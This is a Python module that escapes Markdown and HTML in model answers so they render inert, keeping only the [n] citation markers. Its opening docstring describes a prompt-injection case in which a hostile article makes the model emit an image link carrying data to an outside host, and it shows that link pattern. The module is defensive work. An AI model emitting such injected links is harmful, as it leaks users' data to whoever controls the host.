"""Model text made inert for anything that renders Markdown (the chat page, an OpenAI client): nothing in it
links, loads an image, starts HTML or formats, except the [n] citation markers, which stay as written. A
hostile article can ask the model to write `![x](http://host/?q=...)`; shown inert, no browser fetches it.
Plain answers read as written: only what could open Markdown or HTML gets a backslash."""

from __future__ import annotations

import re

_MARKER = re.compile(r"\[(\d{1,3})\]")
_OPENERS = re.compile(r"([\\`*_\[\]<>!|~])")  # emphasis, code, links and images, HTML, tables, strike-through
_AUTOLINK = re.compile(r"(?i)(:)(?=//)|(www)(\.)|(?<=\w)(@)(?=\w)")  # "http://", "//host", "www.", an e-mail address
_AFTER_MARKER = re.compile(r"^[(:]")  # "[1](http://...)" or "[1]: http://..." would make the marker a link
_BLOCK = re.compile(r"(?m)^(\s*)([#>+=-]|\d+(?=[.)]))")  # headings, quotes, lists at a line's start
_ESCAPED = re.compile(r"\\([\\`*_\[\]<>!|~#+=.:()@-])")


def _inert(piece: str) -> str:
    piece = _OPENERS.sub(r"\\\1", piece)
    piece = unlinked_addresses(piece)
    return _BLOCK.sub(lambda m: m.group(1) + "\\" + m.group(2) if not m.group(2)[0].isdigit()
                      else m.group(1) + m.group(2) + "\\", piece)  # fmt: skip


def unlinked_addresses(text: str) -> str:
    """text with a backslash that keeps GFM renderers (marked) from linking a bare address: before the ":" of
    "scheme://", the "." of "www." and the "@" of an e-mail address, wherever they stand in a word."""
    return _AUTOLINK.sub(lambda m: "".join(rf"\{g}" if g in ":.@" else g for g in m.groups() if g), text)


def inert_markdown(text: str) -> str:
    """text with a backslash before whatever could make Markdown or HTML of it (it renders as written), line
    breaks kept, and the [n] markers left as they are, never followed by a link's address or definition."""
    pieces = _MARKER.split(text)  # text, number, text, number, ...
    return "".join(
        f"[{piece}]" if n % 2 else _AFTER_MARKER.sub(r"\\\g<0>", _inert(piece)) if n else _inert(piece)
        for n, piece in enumerate(pieces)
    )


def plain_text(markdown: str) -> str:
    """inert_markdown's text as it was written."""
    return _ESCAPED.sub(r"\1", markdown)
